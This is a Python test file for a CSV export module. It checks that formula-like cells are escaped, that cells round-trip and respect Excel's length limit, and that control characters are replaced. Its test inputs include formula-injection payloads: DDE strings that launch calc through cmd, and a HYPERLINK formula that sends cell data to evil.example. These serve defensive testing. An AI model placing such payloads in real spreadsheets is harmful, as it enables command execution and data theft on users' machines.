"""CSV that runs nothing: OWASP's cases, the way back, numbers, sizes, and characters that no cell holds."""

from __future__ import annotations

import csv
import io
import re
from typing import get_args

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sayso.export.spreadsheet import CUT, LONGEST, cell, csv_text, text_of
from sayso.types import Dossier, Table
from tests.export.hostile import NAME, hostile

STARTS = "=+-@\t\r\n＝＋－＠"
# text that a report may have: no controls but tab and line ends, no halves of characters
WORDS = st.text(alphabet=st.characters(exclude_categories=["Cs", "Cc"], include_characters="\t\r\n'"), max_size=40)


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\u200b=1+1",
        "\u202e=1+1",
        "＝1+1",
        '=HYPERLINK("http://evil.example?x="&A1;"Click")',
    ],
)
def test_what_begins_like_a_formula_is_text(text: str) -> None:
    assert cell(text) == f"'{text}"
    assert text_of(cell(text)) == text


@pytest.mark.parametrize("text", ["-5", "+3.5", "-1,200", "+12%", "-0"])
def test_a_number_with_a_sign_is_a_number(text: str) -> None:
    assert cell(text) == text


def test_numbers_stay_numbers() -> None:
    assert [cell(v) for v in (-5, -2.5, 3.0, 0, None, True, False, 1e300)] == [
        "-5",
        "-2.5",
        "3",
        "0",
        "",
        "true",
        "false",
        str(int(1e300)),
    ]


@given(WORDS)
def test_the_way_back_gives_the_same_text(text: str) -> None:
    assert text_of(cell(text)) == text


@given(WORDS)
def test_no_cell_begins_a_formula(text: str) -> None:
    shown = cell(text)
    first = shown.lstrip(" \u00a0\ufeff\u200b\u202e")[:1]
    assert first not in set(STARTS) or re.fullmatch(r"[+-]\d[\d.,]*%?", shown)


@given(st.lists(st.lists(WORDS, min_size=2, max_size=2), max_size=5))
def test_what_is_read_back_is_what_was_written(table: list[list[str]]) -> None:
    text = csv_text(["a", "b"], [dict(zip("ab", row, strict=True)) for row in table])
    read = list(csv.reader(io.StringIO(text, newline="")))
    assert read[0] == ["a", "b"]
    assert [[text_of(c) for c in row] for row in read[1:]] == table


@pytest.mark.parametrize("letter", ["x", "🚡"])
def test_a_cell_is_no_longer_than_excel_holds(letter: str) -> None:
    shown = cell(letter * 40_000)
    assert len(shown.encode("utf-16-le")) // 2 <= LONGEST
    assert shown.endswith(CUT)
    assert set(shown.removesuffix(CUT)) == {letter}
    whole = letter * (LONGEST // len(letter.encode("utf-16-le")) * 2)
    assert cell(whole) == whole


def test_controls_and_halves_of_characters_are_marked() -> None:
    assert cell("a\0b\x1bc\ud800d") == "a\ufffdb\ufffdc\ufffdd"


@pytest.mark.parametrize("table", [None, *get_args(Table)])
def test_a_hostile_dossier_is_csv_without_formulas(example: Dossier, table: Table | None) -> None:
    text = hostile(example).to_csv(table)
    text.encode("utf-8")
    assert "\0" not in text
    read = list(csv.DictReader(io.StringIO(text, newline="")))
    assert read
    for row in read:
        for name, value in row.items():
            number = name in ("low", "high", "score", "start", "end") or name.endswith(
                (".start", ".end", ".lat", ".lon")
            )
            assert number or not value.startswith(("=", "+", "-", "@", "\t", "\r")), (name, value)
    if table == "figures":
        assert {text_of(row["giver_name"]) for row in read} == {
            NAME.replace("\0", "\ufffd").replace("\ud800", "\ufffd")
        }


def test_every_row_of_the_ledger_says_where_it_comes_from(example: Dossier) -> None:
    hashes = {r.id: r.sha256 for r in example.reports}
    read = list(csv.DictReader(io.StringIO(example.to_csv(), newline="")))
    assert read
    for row in read:
        assert row["provenance.stage"] in ("annotate.figures", "link.figures")
        assert row["provenance.version"].startswith("sayso ")
        assert not row["report"] or row["provenance.reports"] == hashes[row["report"]]
